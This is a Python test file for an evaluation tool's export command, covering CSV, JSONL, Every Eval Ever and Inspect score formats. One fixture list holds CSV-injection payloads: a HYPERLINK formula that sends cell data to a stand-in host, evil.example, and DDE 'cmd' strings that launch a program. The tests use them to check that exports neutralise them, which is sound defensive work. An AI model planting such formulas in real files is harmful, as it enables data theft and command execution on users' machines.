"""``evalnb export``: CSV/JSONL rows, Every Eval Ever records valid against its schema,
and verdicts as Inspect ``precomputed_scores`` read back by Inspect's own code."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import jsonschema
import pandas as pd
import pytest

import evalnb
from evalnb.cli import main
from evalnb.interop import export_eee, import_inspect_log
from tests.builders import write_run

DATA = Path(__file__).parents[1] / "data"
LOG = DATA / "peers" / "inspect_logs" / "popularity_scored.eval"


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    import_inspect_log(LOG, tmp_path / "run")
    return tmp_path / "run"


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_one_row_per_sample_with_checks_and_case_fields(fmt, run_dir, tmp_path) -> None:
    out = tmp_path / f"rows.{fmt}"
    assert main(["export", str(run_dir), "--format", fmt, "--out", str(out)]) == 0
    rows = pd.read_csv(out) if fmt == "csv" else pd.read_json(out, lines=True)
    assert len(rows) == 10
    assert {"case_id", "repeat", "answer", "check:match", "group", "split", "target"} <= set(rows)
    assert rows["check:match"].sum() == evalnb.load(run_dir).checks["outcome"].sum()
    assert json.loads(rows["target"][0]) == " Yes"


def test_eee_records_validate_against_the_every_eval_ever_schema(run_dir, tmp_path) -> None:
    aggregate_schema = json.loads((DATA / "eee/eval.schema.json").read_text())
    instance_schema = json.loads((DATA / "eee/instance_level_eval.schema.json").read_text())
    assert aggregate_schema["version"] == "0.2.3"
    assert main(["export", str(run_dir), "--format", "eee", "--out", str(tmp_path / "eee")]) == 0
    found = sorted((tmp_path / "eee").rglob("*.json"))
    assert len(found) == 1, found
    (aggregate_path,) = found
    aggregate = json.loads(aggregate_path.read_text())
    jsonschema.validate(aggregate, aggregate_schema)
    lines = (tmp_path / "eee" / aggregate["detailed_evaluation_results"]["file_path"]).read_text()
    records = [json.loads(line) for line in lines.splitlines()]
    for record in records:
        jsonschema.validate(record, instance_schema)
    assert len(records) == 10 and {r["metadata"]["repeat"] for r in records} == {"0"}
    results = {r["evaluation_name"]: r for r in aggregate["evaluation_results"]}
    suite = evalnb.suite_rate(evalnb.load(run_dir), check=None).set_index("check")
    assert set(results) == set(suite.index)
    for check, result in results.items():
        assert result["score_details"]["score"] == pytest.approx(suite.loc[check, "estimate"])
        interval = result["score_details"]["uncertainty"]["confidence_interval"]
        assert interval["lower"] == pytest.approx(suite.loc[check, "low"])
        assert suite.loc[check, "method"] in interval["method"]  # the method is named
        assert result["score_details"]["details"]["cases"] == "10"


def _verdicts(run_dir: Path) -> None:
    from evalnb.review._state import ReviewState

    panel = ReviewState(run_dir, "ana", design="queue")
    panel.record("pass")
    panel.next()
    panel.record("fail")
    panel.next()
    panel.record("needs_review")


def _read_back(path: Path) -> list[dict]:
    """The records as Inspect's precomputed_scores scorer reads them (its own reader)."""
    code = (
        "import json, sys\n"
        "from inspect_ai.scorer._precomputed import _read_scores_file\n"
        "found = _read_scores_file(sys.argv[1])\n"
        "print(json.dumps([{'id': k[0], 'epoch': k[1], 'value': s.value,"
        " 'explanation': s.explanation} for k, s in found.items()]))\n"
    )
    given = os.environ.get("INSPECT_AI_PYTHON")  # `make test` sets it: then it must work
    python = given or sys.executable
    done = subprocess.run([python, "-c", code, str(path)], capture_output=True, text=True)
    if not given and "No module named 'inspect_ai'" in done.stderr:
        pytest.skip(
            "Inspect is not installed (pip install 'evalnb[inspect]' or set INSPECT_AI_PYTHON; "
            "make test does)"
        )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def test_inspect_scores_round_trip_through_inspects_reader(run_dir, tmp_path) -> None:
    _verdicts(run_dir)
    out = tmp_path / "scores.jsonl"
    assert main(["export", str(run_dir), "--format", "inspect-scores", "--out", str(out)]) == 0
    written = [json.loads(line) for line in out.read_text().splitlines()]
    assert [w["value"] for w in written] == ["C", "I"]  # needs_review is no verdict
    found = _read_back(out)
    assert sorted((f["id"], f["epoch"], f["value"]) for f in found) == sorted(
        (w["id"], w["epoch"], w["value"]) for w in written
    )


def test_eee_instance_line_is_pinned_to_the_byte(tmp_path) -> None:
    answer = 'Ünï "q"'
    rows = [{"case_id": "c1", "variant": "v", "repeat": 0, "answer": answer, "latency_ms": 12.5}]
    rows[0]["checks"] = {"ok": True, "unscored": None}
    run_dir = write_run(tmp_path / "r", rows, cases=[{"id": "c1", "target": ["a", "b"]}])
    aggregate_path, instances_path = export_eee(run_dir, tmp_path / "eee")
    aggregate = json.loads(aggregate_path.read_text())
    retrieved = aggregate["retrieved_timestamp"]
    expected = {
        "schema_version": "0.2.3",
        "evaluation_id": f"r/v/{retrieved}",
        "model_id": "v",
        "evaluation_name": "ok",
        "evaluation_result_id": "v/ok",
        "sample_id": "c1",
        # sha256 of the prompt, a newline and the target as JSON
        "sample_hash": "5414ea3408bec199b41563a31c28b3cd1148a99aadd4ef01fce3c3dd6e42b85f",
        "interaction_type": "single_turn",
        "input": {"raw": "question c1", "reference": ["a", "b"]},
        "output": {"raw": [answer]},
        "answer_attribution": [
            {
                "turn_idx": 0,
                "source": "output.raw",
                "extracted_value": answer,
                "extraction_method": "evalnb check python",
                "is_terminal": True,
            }
        ],
        "evaluation": {"score": 1.0, "is_correct": True},
        "performance": {"latency_ms": 12.5},
        "error": None,
        "metadata": {"repeat": "0", "variant": "v", "status": "completed", "detail": ""},
    }
    written = instances_path.read_bytes()
    assert written == (json.dumps(expected, ensure_ascii=False) + "\n").encode()  # unscored: out
    detailed = aggregate["detailed_evaluation_results"]
    assert detailed["checksum"] == hashlib.sha256(written).hexdigest()
    assert detailed["total_rows"] == 1
    assert (tmp_path / "eee" / detailed["file_path"]) == instances_path


def test_eee_each_instance_carries_its_own_samples_answer(tmp_path) -> None:
    # Written out of key order, two variants, three repeats: a look-up that matched on the
    # wrong key (or only on the case) would give another sample's answer or latency.
    keys = [(c, v, r) for r in (2, 0, 1) for v in ("b", "a") for c in ("c2", "c1", "c3")]
    rows = [
        {
            "case_id": c,
            "variant": v,
            "repeat": r,
            "answer": f"{v}-{c}-{r}",
            "latency_ms": float(i),
            "checks": {"ok": r != 1},
        }
        for i, (c, v, r) in enumerate(keys)
    ]
    latency = {(row["case_id"], row["variant"], row["repeat"]): row["latency_ms"] for row in rows}
    paths = export_eee(write_run(tmp_path / "r", rows), tmp_path / "eee")
    records = [
        json.loads(line)
        for p in paths
        if p.suffix == ".jsonl"
        for line in p.read_text().splitlines()
    ]
    assert len(records) == len(rows)
    for record in records:
        variant, repeat = record["metadata"]["variant"], int(record["metadata"]["repeat"])
        key = (record["sample_id"], variant, repeat)
        assert record["output"]["raw"] == ["-".join([variant, record["sample_id"], str(repeat)])]
        assert record["performance"]["latency_ms"] == latency[key]
        assert record["evaluation"]["is_correct"] == (repeat != 1)


#: Cells a spreadsheet would run (OWASP "CSV Injection"), and two it would not.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["a = b", "'quoted already"]


def _formula_run(tmp_path: Path) -> Path:
    answers = FORMULAS + PLAIN
    rows = [
        {"case_id": f"=case{i}" if i == 0 else f"c{i}", "variant": "v", "repeat": 0, "answer": a}
        for i, a in enumerate(answers)
    ]
    for row in rows:
        row["checks"] = {"ok": True}
    return write_run(tmp_path / "run", rows, cases=[{"id": r["case_id"]} for r in rows])


def _csv_rows(path: Path) -> list[dict[str, str]]:
    import csv

    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_a_spreadsheet_would_run_get_a_quote_in_front(tmp_path) -> None:
    run_dir = _formula_run(tmp_path)
    out = tmp_path / "rows.csv"
    assert main(["export", str(run_dir), "--format", "csv", "--out", str(out)]) == 0
    rows = _csv_rows(out)
    answers = {r["case_id"].lstrip("'"): r["answer"] for r in rows}
    expected = [f"'{a}" for a in FORMULAS] + PLAIN  # the plain ones are left as they are
    assert [answers["=case0"], *(answers[f"c{i}"] for i in range(1, 9))] == expected
    assert rows[0]["case_id"] == "'=case0"  # case ids come from other people too
    assert {r["repeat"] for r in rows} == {"0"} and {r["check:ok"] for r in rows} == {"True"}


def test_raw_csv_and_jsonl_keep_every_cell_as_it_is(tmp_path) -> None:
    run_dir = _formula_run(tmp_path)
    out = tmp_path / "raw.csv"
    assert main(["export", str(run_dir), "--format", "csv", "--raw", "--out", str(out)]) == 0
    assert sorted(r["answer"] for r in _csv_rows(out)) == sorted(FORMULAS + PLAIN)
    evalnb.interop.export_samples(run_dir, tmp_path / "python.csv", raw=True)
    assert sorted(r["answer"] for r in _csv_rows(tmp_path / "python.csv")) == sorted(
        FORMULAS + PLAIN
    )
    assert (
        main(["export", str(run_dir), "--format", "jsonl", "--out", str(tmp_path / "r.jsonl")]) == 0
    )
    lines = (tmp_path / "r.jsonl").read_text().splitlines()
    assert sorted(json.loads(line)["answer"] for line in lines) == sorted(FORMULAS + PLAIN)


def test_raw_applies_to_csv_only(tmp_path, capsys) -> None:
    run_dir = _formula_run(tmp_path)
    argv = ["export", str(run_dir), "--format", "jsonl", "--raw", "--out", str(tmp_path / "x")]
    assert main(argv) == 2
    assert "--raw applies to the csv format only" in capsys.readouterr().err
